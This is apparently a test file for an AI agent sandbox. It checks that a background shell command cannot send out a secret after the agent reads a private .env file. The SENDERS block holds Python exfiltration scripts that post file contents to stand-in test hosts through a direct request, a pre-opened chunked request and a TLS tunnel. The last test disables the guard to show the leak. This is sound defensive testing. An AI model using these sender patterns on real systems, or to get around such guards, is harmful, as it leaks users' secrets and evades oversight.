import { chownSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { SessionOptions } from "@toolkeep/core";
import { modelText } from "@toolkeep/core/formats";
import { openSandbox } from "@toolkeep/node";
import { readTool } from "@toolkeep/tools/internal";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import {
  type LoopbackServer,
  openServer,
} from "../../packages/node/src/network/testing/loopback-server.test.kit.ts";
import { selfSigned } from "../../packages/node/src/network/testing/self-signed.test.kit.ts";
import { backgroundTools } from "../../packages/tools/src/shell/background-tools.ts";
import { commandBench, request } from "../tools/command-bench.ts";

const sandbox = await openSandbox({ orNone: true });
const reason = sandbox.name === "bubblewrap" ? "" : ": skipped, bubblewrap does not work here";

const certificate = selfSigned(["secure.test"]);
let plain: LoopbackServer;
let secure: LoopbackServer;
let bench: Awaited<ReturnType<typeof commandBench>>;

beforeAll(async () => {
  plain = await openServer((_request, response) => response.end("taken"));
  secure = await openServer((_request, response) => response.end("taken"), certificate);
  bench = await commandBench({
    sandbox,
    network: {
      privateHosts: [`plain.test:${plain.port}`, `secure.test:${secure.port}`],
      resolve: async () => ["127.0.0.1"],
    },
  });
  write(".env", "KEY=hunter2\n");
});
afterAll(async () => {
  await Promise.all([plain.close(), secure.close()]);
  await bench.close();
});
afterEach(() => {
  for (const name of ["ready", "leak.txt"]) rmSync(join(bench.root, name), { force: true });
});

function write(name: string, text: string): void {
  const path = join(bench.root, name);
  writeFileSync(path, text);
  if (process.getuid?.() === 0) chownSync(path, 12_345, 12_345);
}

/** Waits for a file and sends what is in it: by a request that it makes then, or by one that it has begun before. */
const SENDERS = {
  "a request that it makes then": `
open("ready", "w").close()
text = wait()
import urllib.request
print(urllib.request.urlopen("http://plain.test:PLAIN/", data=text).read())
`,
  "a request that it has begun": `
import socket
s = socket.create_connection(("127.0.0.1", 61128))
s.sendall(b"POST http://plain.test:PLAIN/ HTTP/1.1\\r\\nHost: plain.test:PLAIN\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1\\r\\n-\\r\\n")
open("ready", "w").close()
text = wait()
s.sendall(b"%x\\r\\n%s\\r\\n0\\r\\n\\r\\n" % (len(text), text))
print(s.recv(1000))
`,
  "a tunnel that it has opened": `
import socket, ssl
s = socket.create_connection(("127.0.0.1", 61128))
s.sendall(b"CONNECT secure.test:SECURE HTTP/1.1\\r\\nHost: secure.test:SECURE\\r\\n\\r\\n")
s.recv(1000)
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
t = c.wrap_socket(s, server_hostname="secure.test")
open("ready", "w").close()
text = wait()
t.sendall(b"POST / HTTP/1.1\\r\\nHost: secure.test\\r\\nContent-Length: %d\\r\\n\\r\\n%s" % (len(text), text))
print(t.recv(1000))
`,
} as const;

const WAIT = `
import os, time
def wait():
    while not os.path.exists("leak.txt"): time.sleep(0.05)
    time.sleep(0.1)
    return open("leak.txt", "rb").read()
`;

const RULES = ['allow shell.run "*"', "allow net.fetch *.test", 'allow fs.* "{workspace}/**"'];

/** Starts the sender, does something private or not, and leaves something for the sender. */
async function played(sender: string, isPrivate: boolean, options: SessionOptions = {}): Promise<string> {
  const ports = { PLAIN: `${plain.port}`, SECURE: `${secure.port}` };
  write("send.py", WAIT + sender.replaceAll(/PLAIN|SECURE/g, (name) => ports[name as keyof typeof ports]));
  const tools = [...backgroundTools({ hosts: ["plain.test", "secure.test"] }), readTool()];
  await using session = await bench.session(tools, {
    policy: { rules: RULES },
    approver: async () => ({ verdict: "once" }),
    ...options,
  });
  const { data } = await session.call(request("bash_start", { command: "python3 send.py" }, "1"));
  const { id } = data as { readonly id: string };
  const output = (at: string) => session.call(request("bash_output", { id, wait: 2_000 }, at));
  while (!(await import("node:fs")).existsSync(join(bench.root, "ready")))
    await new Promise((done) => setTimeout(done, 50));
  if (isPrivate) await session.call(request("read", { path: join(bench.root, ".env") }, "2"));
  write("leak.txt", "hunter2");
  let seen = "";
  for (let at = 0; at < 60 && !seen.includes("ended with"); at += 1)
    seen += modelText(await output(`3${at}`));
  return seen;
}

function received(): string {
  return [...plain.requests, ...secure.requests].map(({ body }) => body).join("\n");
}

describe.skipIf(reason !== "")(`a command that runs while something private is read${reason}`, () => {
  test.each(Object.entries(SENDERS))("cannot send it by %s", async (_name, sender) => {
    const before = received();
    const seen = await played(sender, true);
    expect(received()).toBe(before);
    expect(seen).toContain("something private was read in this session");
  });

  test.each(Object.entries(SENDERS))("sends by %s where nothing was", async (_name, sender) => {
    const before = received();
    await played(sender, false);
    expect(received().slice(before.length)).toContain("hunter2");
  });

  test("keeps its network where no rule and no watchdog objects", async () => {
    const before = received();
    await played(SENDERS["a tunnel that it has opened"], true, {
      policy: { rules: RULES, builtIn: { "rule-of-two": "off" } },
    });
    expect(received().slice(before.length)).toContain("hunter2");
  });
});
